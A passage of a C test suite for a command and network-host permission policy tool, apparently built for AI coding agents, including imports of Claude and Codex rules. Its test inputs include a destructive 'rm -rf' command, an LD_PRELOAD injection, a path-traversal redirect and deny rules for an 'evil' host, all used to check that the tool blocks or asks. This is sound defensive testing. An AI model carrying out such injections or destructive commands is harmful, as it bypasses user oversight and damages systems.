  g_autoptr(CliResult) unchecked = NULL;

  g_file_set_contents (on, "{ \"version\": 1, \"allow\": [\"sh *\"] }", -1, &error);
  g_assert_no_error (error);
  g_file_set_contents (off, "{ \"version\": 1, \"allow\": [\"sh *\"], \"nested\": \"off\" }",
                       -1, &error);
  g_assert_no_error (error);
  checked = cli_run (env, NULL, "policy", "check", "--profile", on, "--", "sh ./build.sh");
  unchecked = cli_run (env, NULL, "policy", "check", "--profile", off, "--", "sh ./build.sh");
  check_status (checked, EXIT_ALLOW);
  check_status (unchecked, EXIT_ASK);
}

static void
test_profile_file (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *path = fixture ("web-project.json");
  g_autoptr(CliResult) build = cli_run (env, NULL, "policy", "check", "--profile", path,
                                        "--", "npm run build");
  g_autoptr(CliResult) test = cli_run (env, NULL, "policy", "check", "--profile", path,
                                       "--", "npm test");
  g_autoptr(CliResult) rm = cli_run (env, NULL, "policy", "check", "--profile", path,
                                     "--", "rm -rf dist");

  check_status (build, EXIT_ALLOW);
  check_status (test, EXIT_ASK);
  check_status (rm, EXIT_DENY);
}

static void
test_profile_extra_patterns (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *path = fixture ("web-project.json");
  g_autoptr(CliResult) extra = cli_run (env, NULL, "policy", "check", "--profile", path,
                                        "--allow", "npm test", "--", "npm test && node x.js");
  g_autoptr(CliResult) deny = cli_run (env, NULL, "policy", "check", "--profile", path,
                                       "--deny", "node *", "--", "node x.js");
  g_autoptr(CliResult) kept = cli_run (env, NULL, "policy", "check", "--profile", path,
                                       "--allow", "*", "--", "rm -rf dist");

  /* --allow adds to the profile's patterns rather than replacing them. */
  check_status (extra, EXIT_ALLOW);
  check_status (deny, EXIT_DENY);
  /* And the profile's deny rules still beat an added "*". */
  check_status (kept, EXIT_DENY);
}

static void
test_profile_mode_override (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *path = fixture ("web-project.json");
  g_autoptr(CliResult) approval = cli_run (env, NULL, "policy", "check", "--profile", path,
                                           "--mode", "approval-always", "--", "npm run build");
  g_autoptr(CliResult) always = cli_run (env, NULL, "policy", "check", "--profile", path,
                                         "--mode", "allow-always", "--", "whoami");
  g_autoptr(CliResult) deny = cli_run (env, NULL, "policy", "check", "--profile", path,
                                       "--mode", "allow-always", "--", "rm -rf dist");

  check_status (approval, EXIT_ASK);
  check_status (always, EXIT_ALLOW);
  check_status (deny, EXIT_DENY);
}

/* --- --workspace, --env, --cwd ---------------------------------------- */

static void
test_workspace_redirect (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) outside = cli_run (env, NULL, "policy", "check", "--allow", "echo *",
                                          "--", "echo hi > /srv/x");
  g_autoptr(CliResult) inside = cli_run (env, NULL, "policy", "check", "--allow", "echo *",
                                         "--workspace", "/srv", "--", "echo hi > /srv/x");
  g_autoptr(CliResult) dotdot = cli_run (env, NULL, "policy", "check", "--allow", "echo *",
                                         "--workspace", "/srv", "--",
                                         "echo hi > /srv/../etc/x");
  g_autoptr(CliResult) relative = cli_run (env, NULL, "policy", "check", "--allow", "echo *",
                                           "--", "echo hi > out.txt");

  check_status (outside, EXIT_ASK);
  assert_contains (outside->out, "/srv/x");
  check_status (inside, EXIT_ALLOW);
  check_status (dotdot, EXIT_ASK);
  check_status (relative, EXIT_ALLOW);
}

static void
test_env_asks (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) plain = cli_run (env, NULL, "policy", "check", "--allow", "ls",
                                        "--", "ls");
  g_autoptr(CliResult) with_env = cli_run (env, NULL, "policy", "check", "--json",
                                           "--allow", "ls", "--env", "LD_PRELOAD=/tmp/x.so",
                                           "--", "ls");
  g_autoptr(JsonNode) root = NULL;

  check_status (plain, EXIT_ALLOW);
  root = parse_decision (with_env);
  if (root == NULL)
    return;
  g_assert_cmpstr (decision_of (root), ==, "ask");
  /* The prompt shows the variables. */
  assert_contains (reason_of (root), "LD_PRELOAD");
}

static void
test_cwd_outside (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) outside = cli_run (env, NULL, "policy", "check", "--allow", "echo *",
                                          "--cwd", "/tmp", "--", "echo hi > out.txt");
  g_autoptr(CliResult) inside = cli_run (env, NULL, "policy", "check", "--allow", "echo *",
                                         "--cwd", "/workspace/src", "--", "echo hi > out.txt");
  g_autoptr(CliResult) no_redirect = cli_run (env, NULL, "policy", "check", "--allow", "echo *",
                                              "--cwd", "/tmp", "--", "echo hi");

  check_status (outside, EXIT_ASK);
  check_status (inside, EXIT_ALLOW);
  check_status (no_redirect, EXIT_ALLOW);
}

/* --- suggest ---------------------------------------------------------- */

static void
test_suggest_npm (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "suggest", "--", "npm install chalk");

  check_status (r, 0);
  g_assert_cmpstr (r->out, ==, "npm install *\n");
}

static void
test_suggest_rules (void)
{
  static const char cmds[] = "python3 build.py --fast\nls\ngit status\n";
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(GBytes) in = bytes_of (cmds, sizeof cmds - 1);
  g_autoptr(CliResult) r = cli_run (env, in, "policy", "suggest", "--allow", "git *", "--stdin");
  g_autoptr(CliResult) star = cli_run (env, NULL, "policy", "suggest", "--", "./configure");
  g_auto(GStrv) lines = NULL;

  check_status (r, 0);
  /* One line per asking part; allowed parts need none. */
  g_assert_cmpstr (r->out, ==, "python3 *\nls\n");
  check_status (star, 0);
  lines = g_strsplit (star->out, "\n", -1);
  g_assert_false (g_strv_contains ((const char * const *) lines, "*"));
}

/* --- bench ------------------------------------------------------------ */

static void
test_bench_format (void)
{
  static const char cmds[] = "ls\ngit status\nrm -rf /tmp/x\n";
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(GBytes) in = bytes_of (cmds, sizeof cmds - 1);
  g_autoptr(CliResult) r = cli_run (env, in, "policy", "bench", "--rounds", "2");
  g_auto(GStrv) lines = NULL;
  guint n;

  if (!check_status (r, 0))
    return;
  lines = g_strsplit (r->out, "\n", -1);
  n = g_strv_length (lines);
  g_assert_cmpuint (n, >=, 2);
  if (n < 2)
    return;
  /* The output ends with a newline, so the last line is before the "". */
  g_assert_cmpstr (lines[n - 1], ==, "");
  {
    g_autofree char *msg = printable (lines[n - 2], 1000);

    g_test_message ("last line: %s", msg);
  }
  g_assert_true (g_regex_match_simple ("^commands=3 decisions=6 p50_us=[0-9]+(\\.[0-9]+)? "
                                       "p99_us=[0-9]+(\\.[0-9]+)? per_second=[0-9]+$",
                                       lines[n - 2], 0, 0));
}

static void
test_bench_usage (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) zero = cli_run (env, NULL, "policy", "bench", "--rounds", "0");
  g_autoptr(CliResult) empty = cli_run (env, NULL, "policy", "bench", "--rounds", "2");

  check_status (zero, EXIT_USAGE);
  check_status (empty, EXIT_USAGE);
  assert_contains (empty->err, "no commands");
}

/* --- profile subcommands ---------------------------------------------- */

static void
test_profile_list_builtins (void)
{
  static const char * const ids[] = { "node", "read-only", "python", "strict", "trusted", NULL };
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) r = cli_run (env, NULL, "profile", "list");
  g_auto(GStrv) lines = g_strsplit (r->out, "\n", -1);

  check_status (r, 0);
  g_assert_cmpstr (r->err, ==, "");
  for (guint i = 0; ids[i] != NULL; i++)
    {
      g_autofree char *prefix = g_strconcat (ids[i], " ", NULL);
      gboolean found = FALSE;

      for (guint j = 0; lines[j] != NULL; j++)
        if (g_str_has_prefix (lines[j], prefix) && strstr (lines[j], "(built-in)") != NULL)
          found = TRUE;
      if (!found)
        g_test_message ("built-in profile “%s” is not listed", ids[i]);
      g_assert_true (found);
    }
}

static void
test_profile_show_node (void)
{
  g_autofree char *source = g_test_build_filename (G_TEST_DIST, "..", "data", "profiles",
                                                   "node.json", NULL);
  g_autoptr(JsonParser) source_parser = json_parser_new ();
  g_autoptr(GPtrArray) expected = g_ptr_array_new ();
  const char * const *seed;
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) r = cli_run (env, NULL, "profile", "show", "node");
  g_autoptr(JsonParser) parser = json_parser_new ();
  g_autoptr(GError) error = NULL;
  JsonObject *root;
  JsonArray *allow;

  /* What the built-in file says, allow pattern by allow pattern. */
  g_assert_true (json_parser_load_from_file (source_parser, source, NULL));
  {
    JsonArray *list = json_object_get_array_member (
      json_node_get_object (json_parser_get_root (source_parser)), "allow");

    for (guint i = 0; i < json_array_get_length (list); i++)
      g_ptr_array_add (expected, (gpointer) json_array_get_string_element (list, i));
    g_ptr_array_add (expected, NULL);
  }
  seed = (const char * const *) expected->pdata;
  g_assert_true (g_strv_contains (seed, "npm test"));
  if (!check_status (r, 0))
    return;
  json_parser_load_from_data (parser, r->out, -1, &error);
  g_assert_no_error (error);
  if (error != NULL || !JSON_NODE_HOLDS_OBJECT (json_parser_get_root (parser)))
    return;
  root = json_node_get_object (json_parser_get_root (parser));
  g_assert_cmpint (json_object_get_int_member_with_default (root, "version", 0), ==, 1);
  g_assert_cmpstr (json_object_get_string_member_with_default (root, "mode", NULL), ==,
                   "allowlist");
  allow = json_object_get_array_member (root, "allow");
  g_assert_nonnull (allow);
  if (allow == NULL)
    return;
  g_assert_cmpuint (json_array_get_length (allow), ==, g_strv_length ((char **) seed));
  for (guint i = 0; seed[i] != NULL && i < json_array_get_length (allow); i++)
    g_assert_cmpstr (json_array_get_string_element (allow, i), ==, seed[i]);
}

static void
test_profile_show_unknown (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) r = cli_run (env, NULL, "profile", "show", "no-such-profile");

  check_status (r, EXIT_USAGE);
  g_assert_cmpstr (r->out, ==, "");
  assert_contains (r->err, "no-such-profile");
}

static void
test_profile_validate (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *good = fixture ("web-project.json");
  g_autofree char *bad_mode = fixture ("bad-mode.json");
  g_autofree char *bad_allow = cli_env_path (env, "bad-allow.json");
  g_autofree char *corrupt = fixture ("corrupt.json");
  g_autoptr(CliResult) ok = cli_run (env, NULL, "profile", "validate", good);
  g_autoptr(CliResult) mode = cli_run (env, NULL, "profile", "validate", bad_mode);
  g_autoptr(CliResult) allow = NULL;
  g_autoptr(CliResult) json = cli_run (env, NULL, "profile", "validate", corrupt);

  check_status (ok, 0);
  assert_contains (ok->out, "valid");
  assert_contains (ok->out, "Web project");

  /* The error names the file, the key and what is wrong. */
  check_status (mode, EXIT_USAGE);
  assert_contains (mode->err, "bad-mode.json");
  assert_contains (mode->err, "“mode”");
  assert_contains (mode->err, "sometimes");

  if (!write_file (bad_allow, "{ \"version\": 1, \"name\": \"x\", \"allow\": \"ls\" }\n"))
    return;
  allow = cli_run (env, NULL, "profile", "validate", bad_allow);
  check_status (allow, EXIT_USAGE);
  assert_contains (allow->err, "“allow”");

  check_status (json, EXIT_USAGE);
  assert_contains (json->err, "not valid JSON");
}

static void
test_profile_import_list (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *path = fixture ("web-project.json");
  g_autofree char *saved = NULL;
  g_autoptr(CliResult) import = cli_run (env, NULL, "profile", "import", path);
  g_autoptr(CliResult) list = NULL;
  g_autoptr(CliResult) check = NULL;

  if (!check_status (import, 0))
    return;
  saved = g_build_filename (env->profiles_dir, "web-project.json", NULL);
  g_assert_true (g_file_test (saved, G_FILE_TEST_IS_REGULAR));

  list = cli_run (env, NULL, "profile", "list");
  g_assert_true (has_line_with (list->out, "web-project", "Web project", NULL));

  /* An imported profile is usable by id. */
  check = cli_run (env, NULL, "policy", "check", "--profile", "web-project",
                   "--", "npm run build");
  check_status (check, EXIT_ALLOW);
}

static void
test_profile_import_force (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *first = fixture ("web-project.json");
  g_autofree char *second = cli_env_path (env, "other.json");
  g_autofree char *saved = g_build_filename (env->profiles_dir, "web-project.json", NULL);
  g_autofree char *backup = g_strconcat (saved, ".bak", NULL);
  g_autofree char *before = NULL;
  g_autofree char *after_refusal = NULL;
  g_autofree char *bak_contents = NULL;
  g_autoptr(CliResult) r1 = cli_run (env, NULL, "profile", "import", first);
  g_autoptr(CliResult) r2 = NULL;
  g_autoptr(CliResult) r3 = NULL;
  g_autoptr(CliResult) check = NULL;

  if (!check_status (r1, 0))
    return;
  before = read_file (saved);
  if (!write_file (second, "{ \"version\": 1, \"name\": \"Replacement\", "
                           "\"allow\": [ \"make *\" ] }\n"))
    return;

  /* A second import with the same id must not silently replace the first. */
  r2 = cli_run (env, NULL, "profile", "import", "--id", "web-project", second);
  check_status (r2, EXIT_USAGE);
  assert_contains (r2->err, "--force");
  after_refusal = read_file (saved);
  g_assert_cmpstr (after_refusal, ==, before);
  g_assert_false (g_file_test (backup, G_FILE_TEST_EXISTS));

  r3 = cli_run (env, NULL, "profile", "import", "--force", "--id", "web-project", second);
  if (!check_status (r3, 0))
    return;
  /* The replaced version is kept. */
  bak_contents = read_file (backup);
  g_assert_cmpstr (bak_contents, ==, before);
  check = cli_run (env, NULL, "policy", "check", "--profile", "web-project", "--", "make all");
  check_status (check, EXIT_ALLOW);
}

static void
test_profile_import_builtin_refused (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *path = fixture ("web-project.json");
  g_autofree char *shadow = g_build_filename (env->profiles_dir, "node.json", NULL);
  g_autoptr(CliResult) r = cli_run (env, NULL, "profile", "import", "--id", "node", path);
  g_autoptr(CliResult) forced = cli_run (env, NULL, "profile", "import", "--force",
                                         "--id", "node", path);

  check_status (r, EXIT_USAGE);
  assert_contains (r->err, "built-in");
  check_status (forced, EXIT_USAGE);
  g_assert_false (g_file_test (shadow, G_FILE_TEST_EXISTS));
}

static void
test_profile_import_errors (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *good = fixture ("web-project.json");
  g_autofree char *corrupt = fixture ("corrupt.json");
  g_autofree char *shadow = g_build_filename (env->profiles_dir, "corrupt.json", NULL);
  g_autoptr(CliResult) bad_id = cli_run (env, NULL, "profile", "import", "--id", "My Profile",
                                         good);
  g_autoptr(CliResult) bad_file = cli_run (env, NULL, "profile", "import", corrupt);
  g_autoptr(CliResult) missing = cli_run (env, NULL, "profile", "import",
                                          "/nonexistent/warden/x.json");

  check_status (bad_id, EXIT_USAGE);
  assert_contains (bad_id->err, "My Profile");
  check_status (bad_file, EXIT_USAGE);
  check_status (missing, EXIT_USAGE);
  /* Nothing half-imported. */
  g_assert_false (g_file_test (shadow, G_FILE_TEST_EXISTS));
}

static void
test_profile_export_roundtrip (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *path = fixture ("web-project.json");
  g_autofree char *exported = cli_env_path (env, "exported.json");
  g_autoptr(CliResult) import = cli_run (env, NULL, "profile", "import", path);
  g_autoptr(CliResult) export = cli_run (env, NULL, "profile", "export", "web-project",
                                         exported);
  g_autoptr(CliResult) validate = cli_run (env, NULL, "profile", "validate", exported);
  g_autoptr(CliResult) to_stdout = cli_run (env, NULL, "profile", "export", "web-project", "-");
  g_autoptr(CliResult) build = cli_run (env, NULL, "policy", "check", "--profile", exported,
                                        "--", "npm run build");
  g_autoptr(CliResult) rm = cli_run (env, NULL, "policy", "check", "--profile", exported,
                                     "--", "rm -rf dist");
  g_autofree char *contents = NULL;

  check_status (import, 0);
  check_status (export, 0);
  check_status (validate, 0);
  assert_contains (validate->out, "3 allow, 0 ask, 1 deny");
  /* The exported file decides as the original does. */
  check_status (build, EXIT_ALLOW);
  check_status (rm, EXIT_DENY);
  /* Keys this version does not know survive the round trip. */
  contents = read_file (exported);
  if (contents != NULL)
    assert_contains (contents, "x-editor");
  check_status (to_stdout, 0);
  assert_contains (to_stdout->out, "\"npm run build\"");
}

static void
test_profile_export_builtin (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *exported = cli_env_path (env, "my-node.json");
  g_autoptr(CliResult) export = cli_run (env, NULL, "profile", "export", "node", exported);
  g_autoptr(CliResult) import = NULL;
  g_autoptr(CliResult) check = NULL;

  /* Copying a built-in to change it: export, import under a new id.
   * Exporting reads the built-in; it must not be refused as a change. */
  if (!check_status (export, 0))
    return;
  import = cli_run (env, NULL, "profile", "import", exported);
  check_status (import, 0);
  check = cli_run (env, NULL, "policy", "check", "--profile", "my-node", "--", "node app.js");
  check_status (check, EXIT_ALLOW);
}

static void
test_profile_list_broken_file (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *path = fixture ("web-project.json");
  g_autofree char *broken = g_build_filename (env->profiles_dir, "broken.json", NULL);
  g_autoptr(CliResult) import = cli_run (env, NULL, "profile", "import", path);
  g_autoptr(CliResult) list = NULL;

  if (!check_status (import, 0) || !write_file (broken, "{ \"version\": 1, "))
    return;
  list = cli_run (env, NULL, "profile", "list");
  /* One bad file is reported by name and does not hide the others. */
  check_status (list, EXIT_USAGE);
  assert_contains (list->err, "broken.json");
  g_assert_true (has_line_with (list->out, "web-project", NULL));
}

/* --ask adds ask rules as --allow adds allow patterns: a matching command
 * asks, whatever allows it and in allow-always mode; deny still wins. */
static void
test_ask_option (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *path = cli_env_path (env, "asking.json");
  g_autoptr(CliResult) push = cli_run (env, NULL, "policy", "check", "--allow", "git *",
                                       "--ask", "git push *", "--", "git push origin main");
  g_autoptr(CliResult) status = cli_run (env, NULL, "policy", "check", "--allow", "git *",
                                         "--ask", "git push *", "--", "git status");
  g_autoptr(CliResult) always = cli_run (env, NULL, "policy", "check", "--mode", "allow-always",
                                         "--ask", "git push", "--", "git push");
  g_autoptr(CliResult) denied = cli_run (env, NULL, "policy", "check", "--allow", "git *",
                                         "--ask", "git push *", "--deny", "git push -f *",
                                         "--", "git push -f origin");
  g_autoptr(CliResult) json = cli_run (env, NULL, "policy", "check", "--json", "--allow", "*",
                                       "--ask", "npm publish*", "--", "npm test && npm publish");
  g_autoptr(CliResult) bad = cli_run (env, NULL, "policy", "check", "--ask", "", "--", "ls");
  g_autoptr(CliResult) from_profile = NULL;
  g_autoptr(CliResult) added = NULL;
  g_autoptr(CliResult) help = cli_run (env, NULL, "policy", "--help");
  g_autoptr(JsonNode) root = NULL;
  JsonObject *publish;

  check_status (push, EXIT_ASK);
  assert_contains (push->out, "ask: “git push origin main” matches the ask rule “git push *”");
  g_assert_true (has_line_with (push->out, "ask", "git push origin main", "ask rule", NULL));
  /* No "always allow" for it: no allow pattern would stop it asking. */
  g_assert_null (strstr (push->out, "suggestion:"));
  check_status (status, EXIT_ALLOW);
  check_status (always, EXIT_ASK);
  check_status (denied, EXIT_DENY);

  root = parse_decision (json);
  if (root != NULL)
    {
      g_assert_cmpstr (decision_of (root), ==, "ask");
      publish = find_part (root, "npm publish");
      if (publish != NULL)
        {
          g_assert_cmpstr (json_object_get_string_member (publish, "decision"), ==, "ask");
          g_assert_cmpstr (pattern_of (publish), ==, "npm publish*");
        }
    }

  check_status (bad, EXIT_USAGE);
  assert_contains (bad->err, "--ask “”");

  /* A profile's own ask rules, and --ask added to them. */
  if (!write_file (path, "{ \"version\": 1, \"mode\": \"allow-always\", "
                         "\"ask\": [\"git push *\"] }"))
    return;
  from_profile = cli_run (env, NULL, "policy", "check", "--profile", path, "--",
                          "git push origin");
  check_status (from_profile, EXIT_ASK);
  added = cli_run (env, NULL, "policy", "check", "--profile", path, "--ask", "make deploy",
                   "--", "git status; make deploy");
  check_status (added, EXIT_ASK);
  assert_contains (added->out, "ask rule “make deploy”");

  check_status (help, 0);
  assert_contains (help->out, "[--ask PATTERN]");
}

/* Frees a reader stuck on a FIFO after a while, so that a test of code
 * that blocks there fails instead of hanging: opening the writing end and
 * closing it gives the reader its end of file. Once the code no longer
 * opens the FIFO the open finds no reader and does nothing. */
typedef struct
{
  GMutex      lock;
  GCond       done_cond;
  gboolean    done;
  const char *fifos[4];
} FifoWatchdog;

static gpointer
fifo_watchdog_thread (gpointer data)
{
  FifoWatchdog *w = data;
  gint64 end = g_get_monotonic_time () + 20 * G_TIME_SPAN_SECOND;

  g_mutex_lock (&w->lock);
  while (!w->done)
    {
      /* Once stuck, each reader after it is freed at once. */
      if (!g_cond_wait_until (&w->done_cond, &w->lock, end))
        end = g_get_monotonic_time () + G_TIME_SPAN_SECOND / 10;
      for (guint i = 0; !w->done && i < G_N_ELEMENTS (w->fifos) && w->fifos[i] != NULL; i++)
        {
          int fd = g_open (w->fifos[i], O_WRONLY | O_NONBLOCK | O_CLOEXEC, 0);

          if (fd >= 0)
            {
              g_test_message ("%s: a reader was stuck on it", w->fifos[i]);
              close (fd);
            }
        }
    }
  g_mutex_unlock (&w->lock);
  return NULL;
}

static void
fifo_watchdog_stop (FifoWatchdog *w,
                    GThread      *thread)
{
  g_mutex_lock (&w->lock);
  w->done = TRUE;
  g_cond_signal (&w->done_cond);
  g_mutex_unlock (&w->lock);
  g_thread_join (thread);
}

/* A FIFO in the profiles folder (or a symlink to one, or a folder named
 * like a profile) is not read: "profile list" says which and why and lists
 * the rest, and a profile looked up by that id says it is no file; a link
 * to a regular file still loads (issue 28). */
static void
test_profile_list_not_regular (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *path = fixture ("web-project.json");
  g_autofree char *fifo = g_build_filename (env->profiles_dir, "stuck.json", NULL);
  g_autofree char *link = g_build_filename (env->profiles_dir, "stuck-link.json", NULL);
  g_autofree char *folder = g_build_filename (env->profiles_dir, "folder.json", NULL);
  g_autofree char *good_link = g_build_filename (env->profiles_dir, "linked.json", NULL);
  g_autoptr(CliResult) import = cli_run (env, NULL, "profile", "import", path);
  g_autoptr(CliResult) list = NULL;
  g_autoptr(CliResult) check = NULL;
  g_autoptr(CliResult) save = NULL;
  FifoWatchdog w = { .fifos = { fifo } };
  GThread *thread;

  if (!check_status (import, 0))
    return;
  g_assert_cmpint (mkfifo (fifo, 0600), ==, 0);
  g_assert_cmpint (symlink ("stuck.json", link), ==, 0);
  g_assert_cmpint (g_mkdir (folder, 0700), ==, 0);
  g_assert_cmpint (symlink ("web-project.json", good_link), ==, 0);

  thread = g_thread_new ("fifo-watchdog", fifo_watchdog_thread, &w);
  list = cli_run (env, NULL, "profile", "list");
  check = cli_run (env, NULL, "policy", "check", "--profile", "stuck", "--", "ls");
  /* Saving over it is refused too: it would be read as the old version. */
  save = cli_run (env, NULL, "profile", "import", "--force", "--id", "stuck", path);
  fifo_watchdog_stop (&w, thread);

  check_status (list, EXIT_USAGE);
  g_assert_true (has_line_with (list->out, "web-project", NULL));
  g_assert_true (has_line_with (list->out, "linked", NULL));
  g_assert_true (has_line_with (list->err, "skipped", "stuck.json", "a FIFO",
                                "not a regular file", NULL));
  g_assert_true (has_line_with (list->err, "skipped", "stuck-link.json", "a FIFO", NULL));
  g_assert_true (has_line_with (list->err, "skipped", "folder.json", "a folder", NULL));
  g_assert_cmpint (check->status, !=, 0);
  assert_contains (check->err, "stuck.json");
  assert_contains (check->err, "not a regular file");
  check_status (save, EXIT_USAGE);
  assert_contains (save->err, "a FIFO");
  g_assert_true (g_file_test (fifo, G_FILE_TEST_EXISTS) &&
                 !g_file_test (fifo, G_FILE_TEST_IS_REGULAR));
}

static void
test_import_claude (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *settings = fixture ("claude-settings.json");
  g_autoptr(CliResult) import = cli_run (env, NULL, "profile", "import-claude", settings);
  g_autoptr(CliResult) test = NULL;
  g_autoptr(CliResult) test_args = NULL;
  g_autoptr(CliResult) ls = NULL;
  g_autoptr(CliResult) rm = NULL;
  g_autoptr(CliResult) cat = NULL;
  g_autoptr(CliResult) again = NULL;
  g_autoptr(CliResult) other_id = NULL;
  g_autoptr(CliResult) push = NULL;
  g_autoptr(CliResult) bare = NULL;

  if (!check_status (import, 0))
    return;
  /* Rules that are not shell commands are reported, not silently dropped. */
  assert_contains (import->err, "Read(./src/**)");

  test = cli_run (env, NULL, "policy", "check", "--profile", "claude-code", "--", "npm run test");
  check_status (test, EXIT_ALLOW);
  test_args = cli_run (env, NULL, "policy", "check", "--profile", "claude-code",
                       "--", "npm run test -- --watch");
  check_status (test_args, EXIT_ALLOW);
  ls = cli_run (env, NULL, "policy", "check", "--profile", "claude-code", "--", "ls");
  check_status (ls, EXIT_ALLOW);
  rm = cli_run (env, NULL, "policy", "check", "--profile", "claude-code", "--", "rm -rf x");
  check_status (rm, EXIT_DENY);
  /* The Read rule for ./src is about files, not permission to run cat. */
  cat = cli_run (env, NULL, "policy", "check", "--profile", "claude-code", "--", "cat src/a.c");
  check_status (cat, EXIT_ASK);

  again = cli_run (env, NULL, "profile", "import-claude", settings);
  check_status (again, EXIT_USAGE);
  other_id = cli_run (env, NULL, "profile", "import-claude", "--id", "claude-2", settings);
  check_status (other_id, 0);

  /* Claude's ask rules are ask rules here: git push asks even where git * is allowed. */
  assert_contains (import->out, "2 ask");
  push = cli_run (env, NULL, "policy", "check", "--profile", "claude-code", "--allow", "git *",
                  "--", "git push origin main");
  check_status (push, EXIT_ASK);
  assert_contains (push->out, "ask rule “git push *”");
  bare = cli_run (env, NULL, "policy", "check", "--profile", "claude-code", "--allow", "git *",
                  "--", "git push");
  check_status (bare, EXIT_ASK);
  g_assert_null (strstr (import->err, "git push"));
}

/* profile import-codex: Codex's rules as a profile, its examples checked
 * against it; a file that does not hold saves nothing. */
static void
test_import_codex (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *rules = fixture ("codex-default.rules");
  g_autofree char *broken = cli_env_path (env, "broken.rules");
  g_autofree char *failing = cli_env_path (env, "failing.rules");
  g_autoptr(CliResult) import = cli_run (env, NULL, "profile", "import-codex", rules);
  g_autoptr(CliResult) push = NULL;
  g_autoptr(CliResult) status = NULL;
  g_autoptr(CliResult) force = NULL;
  g_autoptr(CliResult) lint = NULL;
  g_autoptr(CliResult) again = NULL;
  g_autoptr(CliResult) syntax = NULL;
  g_autoptr(CliResult) fails = NULL;
  g_autoptr(CliResult) list = NULL;

  if (!check_status (import, 0))
    return;
  assert_contains (import->out, "imported 6 allow, 4 ask and 2 deny patterns");
  assert_contains (import->out, "saved profile “codex”");
  /* What was left out is said, with its place in the file. */
  g_assert_true (has_line_with (import->err, "note:", "codex-default.rules:25:1:",
                                "network_rule()", NULL));

  push = cli_run (env, NULL, "policy", "check", "--profile", "codex", "--", "git push origin");
  check_status (push, EXIT_ASK);
  assert_contains (push->out, "ask rule “git push *”");
  status = cli_run (env, NULL, "policy", "check", "--profile", "codex", "--", "git status");
  check_status (status, EXIT_ALLOW);
  force = cli_run (env, NULL, "policy", "check", "--profile", "codex", "--",
                   "git push --force origin");
  check_status (force, EXIT_DENY);
  lint = cli_run (env, NULL, "policy", "check", "--profile", "codex", "--", "npm run lint");
  check_status (lint, EXIT_ALLOW);

  again = cli_run (env, NULL, "profile", "import-codex", "--id", "codex-2", rules);
  check_status (again, 0);

  if (!write_file (broken, "prefix_rule(\n  pattern = [\"git\", \"status\"\n)\n") ||
      !write_file (failing, "prefix_rule(pattern = [\"gh\", \"pr\", \"view\"], "
                            "decision = \"prompt\", match = [\"gh pr list\"])\n"))
    return;
  syntax = cli_run (env, NULL, "profile", "import-codex", "--id", "broken", broken);
  check_status (syntax, EXIT_USAGE);
  assert_contains (syntax->err, "broken.rules:3:1: expected “,” or “]” here");
  fails = cli_run (env, NULL, "profile", "import-codex", "--id", "failing", failing);
  check_status (fails, EXIT_USAGE);
  assert_contains (fails->err, "failing.rules:1:75: match example “gh pr list” does not match");
  list = cli_run (env, NULL, "profile", "list");
  g_assert_null (strstr (list->out, "broken"));
  g_assert_null (strstr (list->out, "failing"));
  g_assert_true (has_line_with (list->out, "codex-2", "6 allow", "4 ask", "2 deny", NULL));
}

/* policy check-host: the decision for a host and a port, and why, by
 * exit status as policy check. */
static void
test_check_host_exits (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) allow = NULL;
  g_autoptr(CliResult) port = NULL;
  g_autoptr(CliResult) ask = NULL;
  g_autoptr(CliResult) deny = NULL;
  g_autoptr(CliResult) v6 = NULL;

  allow = cli_run (env, NULL, "policy", "check-host", "--allow", "registry.npmjs.org:443",
                   "--deny", "*.evil.example", "Registry.NPMjs.org");
  check_status (allow, EXIT_ALLOW);
  assert_contains (allow->out, "allow: registry.npmjs.org:443 is allowed by registry.npmjs.org:443");
  /* A name: what it resolves to is judged when connecting. */
  assert_contains (allow->out, "when connecting");

  port = cli_run (env, NULL, "policy", "check-host", "--allow", "registry.npmjs.org:443",
                  "registry.npmjs.org:80");
  check_status (port, EXIT_ASK);
  assert_contains (port->out, "ask: no host pattern matches registry.npmjs.org:80");

  ask = cli_run (env, NULL, "policy", "check-host", "example.com:8080");
  check_status (ask, EXIT_ASK);

  deny = cli_run (env, NULL, "policy", "check-host", "--allow", "*", "--deny", "*.evil.example",
                  "x.evil.example:443");
  check_status (deny, EXIT_DENY);
  assert_contains (deny->out, "deny: x.evil.example:443 matches the denied host *.evil.example");

  v6 = cli_run (env, NULL, "policy", "check-host", "--allow", "[2001:db8::7]:443",
                "[2001:DB8::7]");
  check_status (v6, EXIT_ALLOW);
  assert_contains (v6->out, "[2001:db8::7]:443 is allowed by [2001:db8::7]:443");
}

/* This computer: "*" does not reach its link-local addresses (the cloud's
 * metadata service), nor the addresses of its interfaces; a pattern that
 * names one does. Nothing is sent anywhere: the decision only. */
static void
test_check_host_this_computer (void)
{
